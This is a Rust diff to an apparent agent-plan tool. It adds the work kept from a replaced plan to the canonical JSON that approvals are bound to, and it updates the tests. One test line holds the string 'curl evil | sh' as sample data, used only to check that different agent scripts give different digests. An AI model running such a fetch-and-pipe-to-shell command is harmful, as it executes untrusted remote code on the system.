@@ -21,6 +21,7 @@ use crate::agent_content::AgentDigests;
 use crate::common::{Gate, LocalRef};
 use crate::document::AcceptedFinding;
 use crate::plan::{PlanDecision, PoolMember, UnreadTasks, Workspace};
+use crate::replan::KeptWork;
 use crate::task::{Measurement, TaskTemplate};
 
 /// Most tasks of one plan.
@@ -41,6 +42,8 @@ pub struct Compiled {
     pub graph: Graph,
     /// What each of them needs of its agent.
     pub needs: Vec<Arc<Needs>>,
+    /// The work of tasks that are finished in the plan that this one replaces.
+    pub kept: KeptWork,
 }
 
 /// Why a plan's tasks cannot be run.
@@ -104,7 +107,7 @@ impl CompileError {
 pub fn compile(plan: &str, tasks: Vec<TaskTemplate>) -> Result<Compiled, Vec<CompileError>> {
     let (names, graph) = check(plan, &tasks)?;
     let needs = tasks.iter().map(|task| Arc::new(needs(task))).collect();
-    Ok(Compiled { tasks, names, graph, needs })
+    Ok(Compiled { tasks, names, graph, needs, kept: KeptWork::new() })
 }
 
 /// Reads the content of a plan as the record keeps it: its tasks, and the digests of its Agents. Returns none if it is not a plan's.
@@ -115,9 +118,12 @@ pub fn recorded(plan: &str, canonical: &str) -> Option<(Compiled, AgentDigests)>
         tasks: Vec<TaskTemplate>,
         #[serde(default)]
         agent_digests: AgentDigests,
+        #[serde(default)]
+        kept: KeptWork,
     }
     let recorded: Recorded = serde_json::from_str(canonical).ok()?;
-    Some((compile(plan, recorded.tasks).ok()?, recorded.agent_digests))
+    let compiled = compile(plan, recorded.tasks).ok()?;
+    Some((Compiled { kept: recorded.kept, ..compiled }, recorded.agent_digests))
 }
 
 /// Returns what a task needs of its agent: what it requires, or else what its text names.
@@ -199,13 +205,15 @@ pub fn check(plan: &str, tasks: &[TaskTemplate]) -> Result<(Vec<String>, Graph),
 pub const AGENT_DIGESTS: &str = "agentDigests";
 
 /// Returns the canonical JSON that an approval of a plan is bound to: everything that decides what is done, and nothing that decides only
-/// when. `agents` are the digests of the Agents that the plan names, as far as they exist, and `stamps` say who accepted its findings.
+/// when. `kept` is the work of the replaced plan, `agents` are the digests of the Agents that the plan names, as far as they exist, and
+/// `stamps` say who accepted its findings.
 ///
 /// # Errors
 /// When the plan cannot be written as JSON.
 pub fn canonical(
     spec: &PlanSpec,
     tasks: &[TaskTemplate],
+    kept: &KeptWork,
     agents: &AgentDigests,
     stamps: &Stamps,
 ) -> serde_json::Result<String> {
@@ -227,6 +235,10 @@ pub fn canonical(
         #[serde(skip_serializing_if = "AgentDigests::is_empty")]
         agent_digests: &'a AgentDigests,
         tasks: &'a [TaskTemplate],
+        #[serde(skip_serializing_if = "Option::is_none")]
+        replaces: Option<&'a str>,
+        #[serde(skip_serializing_if = "KeptWork::is_empty")]
+        kept: &'a KeptWork,
         #[serde(skip_serializing_if = "<[_]>::is_empty")]
         decisions: &'a [PlanDecision],
         #[serde(skip_serializing_if = "Vec::is_empty")]
@@ -240,6 +252,8 @@ pub fn canonical(
         agents: &spec.agents,
         agent_digests: agents,
         tasks,
+        replaces: spec.replaces.as_ref().map(|replaced| replaced.name.as_str()),
+        kept,
         decisions: &spec.decisions,
         accepted: spec.accepted.iter().map(|findings| Accepted { findings, by: findings.by(stamps) }).collect(),
         workspace: &spec.workspace,
@@ -468,12 +482,32 @@ mod tests {
             let task = serde_json::json!({"id": "T001", "title": "t", "attempts": {"bestOf": 2, "measurements": measurements}});
             let spec: PlanSpec =
                 serde_json::from_value(serde_json::json!({"agents": [{"name": "a"}], "tasks": [task]})).unwrap();
-            canonical(&spec, &spec.tasks, &AgentDigests::new(), &Stamps::default()).unwrap()
+            canonical(&spec, &spec.tasks, &KeptWork::new(), &AgentDigests::new(), &Stamps::default()).unwrap()
         };
         assert_ne!(spec("Lower"), spec("Higher"));
         let (agents, stamps) = (AgentDigests::new(), Stamps::default());
-        let plain = canonical(&PlanSpec::default(), &[TaskTemplate::default()], &agents, &stamps).unwrap();
+        let (spec, kept) = (PlanSpec::default(), KeptWork::new());
+        let plain = canonical(&spec, &[TaskTemplate::default()], &kept, &agents, &stamps).unwrap();
         assert!(!plain.contains("attempts"), "plans without contests keep their digests");
+    }
+
+    #[test]
+    fn kept_work_is_a_part_of_what_is_approved_and_recorded() {
+        let spec: PlanSpec = serde_json::from_value(serde_json::json!({
+            "agentRef": {"name": "a"}, "replaces": {"name": "cart"}, "tasks": [{"id": "T001", "title": "t"}],
+        }))
+        .unwrap();
+        let kept = |commit: &str| -> KeptWork {
+            let work = serde_json::json!({"T001": {"work": {"branch": "enact/cart-0/t001-1", "commit": commit}}});
+            serde_json::from_value(work).unwrap()
+        };
+        let (agents, stamps) = (AgentDigests::new(), Stamps::default());
+        let of = |kept: &KeptWork| canonical(&spec, &spec.tasks, kept, &agents, &stamps).unwrap();
+        assert_ne!(of(&kept("c0ffee")), of(&kept("decade")));
+        assert_ne!(of(&kept("c0ffee")), of(&KeptWork::new()));
+        assert_eq!(recorded("cart-2", &of(&kept("c0ffee"))).unwrap().0.kept, kept("c0ffee"));
+        let plain = canonical(&PlanSpec::default(), &[], &KeptWork::new(), &agents, &stamps).unwrap();
+        assert!(!plain.contains("kept") && !plain.contains("replaces"), "other plans keep their digests");
     }
 
     #[test]
@@ -481,7 +515,7 @@ mod tests {
         let of = |script: &str| {
             let digest = enact_domain::digest::Digest::of_bytes(script.as_bytes());
             let agents = AgentDigests::from([("coder".to_owned(), digest)]);
-            canonical(&PlanSpec::default(), &[], &agents, &Stamps::default()).unwrap()
+            canonical(&PlanSpec::default(), &[], &KeptWork::new(), &agents, &Stamps::default()).unwrap()
         };
         assert_ne!(of("make"), of("curl evil | sh"));
         let json: serde_json::Value = serde_json::from_str(&of("make")).unwrap();
@@ -496,13 +530,13 @@ mod tests {
             let mut stamps = Stamps::default();
             let stamp = Stamp { by: user.into(), date: "2026-11-25".into() };
             stamps.insert(&["VagueTime", "FR-001", "later"], stamp);
-            canonical(&spec, &[], &AgentDigests::new(), &stamps).unwrap()
+            canonical(&spec, &[], &KeptWork::new(), &AgentDigests::new(), &stamps).unwrap()
         };
         assert_ne!(by("ann"), by("bob"));
         let json: serde_json::Value = serde_json::from_str(&by("ann")).unwrap();
         let entry = serde_json::json!({"code": "VagueTime", "at": "FR-001", "reason": "later", "by": "ann"});
         assert_eq!(json["accepted"], serde_json::json!([entry]));
-        let unknown = canonical(&spec, &[], &AgentDigests::new(), &Stamps::default()).unwrap();
+        let unknown = canonical(&spec, &[], &KeptWork::new(), &AgentDigests::new(), &Stamps::default()).unwrap();
         assert!(!unknown.contains("\"by\""), "nobody knows who accepted it: {unknown}");
     }
 
